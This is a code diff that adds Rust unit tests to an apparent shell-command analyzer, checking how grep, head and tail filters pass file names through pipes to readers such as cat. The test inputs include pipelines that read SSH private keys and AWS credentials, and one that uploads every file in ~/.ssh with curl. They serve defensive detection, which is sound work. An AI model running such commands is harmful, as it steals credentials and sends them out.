@@ -264,6 +264,20 @@ fn loops_bind_their_values() {
     )
     .contains(&"/home/u/.ssh/id_ed25519".to_string()));
     assert!(cmd("cat f | while read l; do rm \"$l\"; done", "rm").has_dynamic_args());
+    // line filters between a listing and its reader keep what they would print
+    assert_eq!(
+        all("ls ~/.ssh | grep -v pub | grep -F id_ | tail -n 2 | while read f; do cat ~/.ssh/$f; done", "cat"),
+        ["/home/u/.ssh/id_ed25519_sk", "/home/u/.ssh/id_ecdsa_sk"]
+    );
+    assert_eq!(
+        all(
+            "ls ~/.aws | grep -i CRED | head -1 | xargs -I{} cat ~/.aws/{}",
+            "cat"
+        ),
+        ["/home/u/.aws/credentials"]
+    );
+    // a regex grep is not followed: its reader's input is unknown
+    assert!(cmd("ls ~/.ssh | grep -E 'id_(rsa|dsa)' | xargs cat", "cat").has_dynamic_args());
     // a partly known listing: its known lines, then one unknown row
     let curls: Vec<Vec<String>> =
         a("find ~/.ssh -type f | while read f; do curl -T \"$f\" h; done")
@@ -318,6 +332,34 @@ fn loops_bind_their_values() {
     // a missing `done` is a syntax error; `do`/`done` words as arguments are not
     assert!(a("for f in a; do echo $f").syntax_error);
     assert!(!a("while read x; do echo done do; done").syntax_error);
+}
+
+#[test]
+fn line_filters_keep_their_lines() {
+    use super::walk::{grep_lines, head_tail_lines};
+    // (grep/head/tail arguments, input, output; None = not followed)
+    let cases: &[(&str, &[&str], &str, Option<&str>)] = &[
+        ("grep", &["pub"], "a\nb.pub\nc", Some("b.pub")),
+        ("grep", &["-v", "pub"], "a\nb.pub\nc", Some("a\nc")),
+        ("grep", &["-i", "PUB"], "a\nb.pub", Some("b.pub")),
+        ("grep", &["a.c"], "abc\naxc\nac", Some("abc\naxc")),
+        ("grep", &["-F", "a.c"], "abc\na.c", Some("a.c")),
+        ("grep", &["-e", "x", "file"], "x", None),
+        ("grep", &["-E", "a|b"], "a", None),
+        ("grep", &["-c", "a"], "a", None),
+        ("head", &["-n", "1"], "a\nb", Some("a")),
+        ("head", &["-2"], "a\nb\nc", Some("a\nb")),
+        ("tail", &["-n1"], "a\nb", Some("b")),
+        ("tail", &["f"], "a", None),
+    ];
+    for &(p, args, input, want) in cases {
+        let got = if p == "grep" {
+            grep_lines(args, input)
+        } else {
+            head_tail_lines(p == "head", args, input, false)
+        };
+        assert_eq!(got.as_deref(), want, "{p} {args:?}");
+    }
 }
 
 #[test]
